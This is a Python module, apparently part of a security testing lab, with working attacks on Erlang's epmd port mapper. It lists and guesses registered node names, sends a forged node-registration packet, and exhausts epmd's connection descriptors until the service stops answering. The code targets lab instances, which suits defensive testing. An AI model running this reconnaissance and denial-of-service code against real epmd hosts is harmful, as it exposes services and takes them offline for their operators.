# SPDX-License-Identifier: BSD-2-Clause
"""Attacks on epmd: what it tells, what it can be told, and how it is worn down."""
import contextlib
import struct

from kit.lab import epmd_names, wait_until
from target import DESCRIPTORS, EPMD, NODE, SPARE_EPMDS

GUESSES = ("rabbit", "ejabberd", "couchdb", "emqx", "riak", "node", "app")
ALIVE2 = b"x" + struct.pack(">HBBHHH", 9999, 77, 0, 6, 5, 4) + b"evil" + b"\0\0"


def ask(target, attacker, address, body):
    """All that epmd answers to a request before it hangs up."""
    with attacker.connect(address, EPMD, target.timeout_s) as connection:
        connection.sendall(struct.pack(">H", len(body)) + body)
        answer = b""
        with contextlib.suppress(ConnectionResetError):
            while part := connection.recv(4096):
                answer += part
    return answer


def names(target, attacker, address):
    listed = epmd_names(attacker, address, target.timeout_s)
    return f"{listed.count('name ')} nodes" if listed else None


def guessed_names(target, attacker, address):
    for guess in GUESSES:
        answer = ask(target, attacker, address, b"z" + guess.encode())
        if answer[:2] == b"w\0" and answer[2:4] == struct.pack(">H", NODE):
            return f"{guess} at {NODE}"
    return None


def local_command(body):
    """A command that epmd takes from its own host only: that it was read is all there is to gain.

    The connection lives in epmd, which looks at the request and hangs up by itself.
    """
    def attack(target, attacker, address):
        ask(target, attacker, address, body)  # a TimeoutError where nobody reads it
        return "read by epmd"
    return attack


def served(target, port):
    """Whether an epmd still tells its own host the names."""
    try:
        return epmd_names(target.lab.host, "127.0.0.1", 0.5, port) is not None
    except (OSError, AssertionError, struct.error):
        return False


def exhaustion(target, attacker, address):
    """Idle connections, until epmd has no descriptor left."""
    place = (attacker is target.lab.stranger) * 2 + (":" in address)
    port = SPARE_EPMDS[place]
    epmd = target.spare_epmd(port)
    try:
        with contextlib.ExitStack() as stack:
            with contextlib.suppress(TimeoutError, ConnectionError):
                for _ in range(DESCRIPTORS + 20):
                    stack.enter_context(attacker.connect(address, port, target.timeout_s))
            wait_until(lambda: not served(target, port), target.timeout_s, "it has taken them all")
            return "epmd serves nobody"
    finally:
        epmd.kill()
        epmd.wait()
